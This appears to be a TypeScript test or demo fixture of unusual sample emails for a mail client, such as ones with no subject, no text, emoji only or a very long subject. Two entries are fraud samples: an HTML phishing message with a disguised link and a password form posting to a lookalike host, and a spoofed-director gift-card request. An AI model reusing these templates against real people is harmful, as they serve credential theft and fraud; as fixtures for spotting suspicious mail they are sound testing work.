// Letters with something odd about them: no text, no subject, a false sender, a very long subject, a hidden link.
import { textPart } from '../mime.ts'
import { people, self } from '../people.ts'
import type { Letter } from './letter.ts'

const { supportImpostor, tor, jonas, lucia, marit, archer } = people

const phishing = `<html><body style="font-family: Arial"><p>Dear user,</p>
<p>Your mailbox <b>ingrid@havnelab.example</b> has reached 99% of its limit. Incoming messages will be deleted
within 24 hours unless you confirm your account.</p>
<p><a href="http://hvnlab-login.example.net/confirm?user=ingrid%40havnelab.example">https://mail.havnelab.example/confirm</a></p>
<form action="http://hvnlab-login.example.net/take" method="post"><input type="password" name="p"><input type="submit" value="Confirm"></form>
<p>The Support Team</p></body></html>
`

export const oddLetters: readonly Letter[] = [
  {
    id: 'mailbox-full',
    hoursAgo: 5.9,
    from: supportImpostor,
    subject: 'Your mailbox is full. Confirm to keep your messages',
    content: () => textPart(phishing, 'text/html'),
    headers: [['Reply-To', 'Support <collect@hvnlab-login.example.net>']],
  },
  {
    id: 'false-director',
    hoursAgo: 130,
    from: { name: 'marit.solberg@havnelab.example', address: 'm.solberg.office@mailbox.example.net', zoneMinutes: 0 },
    subject: 'Quick favour',
    content:
      'Are you at your desk? I need six gift cards for the crew before noon. Don’t call, I am in a meeting.\n\nSent from my phone\n',
  },
  {
    id: 'no-subject',
    hoursAgo: 33,
    from: tor,
    content: 'Storm tonight. Tie the boat twice.\n',
  },
  {
    id: 'no-text',
    hoursAgo: 58,
    from: jonas,
    subject: 'Coffee is in the left thermos (nothing more to say)',
    content: '',
  },
  {
    id: 'long-subject',
    hoursAgo: 220,
    from: archer,
    subject:
      'Position, weather, catch of plankton, state of the galley, names of the new kittens, a question about the buoy, and, because the line is cheap today, everything else that fits into a subject: Grüße, hilsen, 挨拶 🐈🐈🐈',
    content: 'It all fitted.\n\nArcher\n',
  },
  {
    id: 'only-emoji',
    hoursAgo: 13,
    from: lucia,
    subject: '🌊🌊🌊',
    content: '🦭❓\n',
  },
  {
    id: 'many-recipients',
    hoursAgo: 455,
    from: marit,
    to: Object.values(people).filter(person => person.address.endsWith('@havnelab.example')),
    cc: [self],
    subject: 'Re: Re: AW: Fwd: Re: Biscuits',
    content: `> > > > > Who ate them?
> > > > Not me.
> > > Not me either.
> > I was on a boat.
> So was I, and there were biscuits on it.

Case closed.

Marit
`,
  },
  {
    id: 'spaces-and-lines',
    hoursAgo: 1260,
    from: tor,
    subject: 'levels by hand, like every year',
    content: `date        low    high   wind
----------  -----  -----  ------
1.          0.41   1.92   SW  6
2.          0.38   1.97   SW  8
3.          0.52   2.31   W  11   <- boat moved
4.          0.44   1.88   NW  5

.
..dots stay dots
From the shed: nothing.

Tor
`,
  },
]
